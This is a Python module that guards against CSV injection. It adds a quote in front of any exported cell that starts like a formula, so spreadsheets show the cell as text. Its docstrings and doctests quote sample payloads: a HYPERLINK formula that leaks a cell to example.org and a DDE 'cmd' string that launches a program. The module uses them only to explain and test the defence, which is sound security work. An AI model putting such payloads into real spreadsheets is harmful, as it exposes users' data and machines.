"""CSV files for people: no cell a spreadsheet would run as a formula (CSV injection).

The validation outputs quote what schools wrote (``quarantine.csv``'s values, the fix lists'
"found" column), and data officers open them in Excel or LibreOffice. A cell written
``=HYPERLINK("http://example.org/?leak="&A1, "click")``, ``+cmd|' /C calc'!A0`` or ``@SUM(A1:A9)``
would run there as a formula: it could send the sheet's other cells away or start a program. So
every CSV file of `evaluation.validation` meant for people is written by `write_csv`, which
neutralises such cells as the OWASP "CSV Injection" page says: a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front (``'=HYPERLINK(...)``),
so the spreadsheet shows it as text and the original text stays readable after the quote.

A cell that is a plain number with a sign (``-3``, ``-2.5``, ``+4``, ``-3,5``, ``-1e5``) is left
as it is: a spreadsheet reads it as that number, which is what it is, and a range rule's "found
-5" should read -5, not '-5. Anything else after the sign (``-3+cmd|...``, ``-A1``) is quoted.
Numbers the workbench writes itself (counts, row numbers) are not text and are never touched.

Any Excel workbook written for people in the future must go through `safe_cell` too.
"""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
from pandas.api.types import is_object_dtype, is_string_dtype

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain signed number (decimal point or comma, optional exponent): left as it is.
_NUMBER_RE = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` with a single quote in front when it is text a spreadsheet would run as a formula
    (it starts with one of `FORMULA_STARTS` and is not a plain number); anything else unchanged.

    >>> safe_cell('=HYPERLINK("http://example.org/?leak="&A1)')
    '\\'=HYPERLINK("http://example.org/?leak="&A1)'
    >>> safe_cell("-3"), safe_cell("9/A"), safe_cell(12)
    ('-3', '9/A', 12)
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or _NUMBER_RE.fullmatch(value):
        return value
    return "'" + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell made safe by `safe_cell`, column by column: the first
    characters are looked at vectorised (quarantine tables run to hundreds of thousands of rows),
    and only the cells that start like a formula are looked at one by one. Numeric columns are
    left alone, and so is ``frame`` itself."""
    changed = {}
    for position, (_, values) in enumerate(frame.items()):
        if not (is_object_dtype(values.dtype) or is_string_dtype(values.dtype)):
            continue
        starts = values.astype("string").str.startswith(FORMULA_STARTS).fillna(False).to_numpy(dtype=bool)
        if not starts.any():
            continue
        column = values.astype(object).copy()
        candidates = np.flatnonzero(starts)
        column.iloc[candidates] = [safe_cell(value) for value in column.iloc[candidates]]
        changed[position] = column
    if not changed:
        return frame
    out = frame.copy()
    for position, values in changed.items():
        out.isetitem(position, values)
    return out


def write_csv(frame: pd.DataFrame, path: Path, *, sep: str = ",", encoding: str = "utf-8") -> Path:
    """Write ``frame`` (without its index) as a CSV file for people: cells made safe by
    `safe_frame`. ``sep`` and ``encoding`` as `pandas.DataFrame.to_csv` takes them."""
    safe_frame(frame).to_csv(path, index=False, sep=sep, encoding=encoding)
    return Path(path)
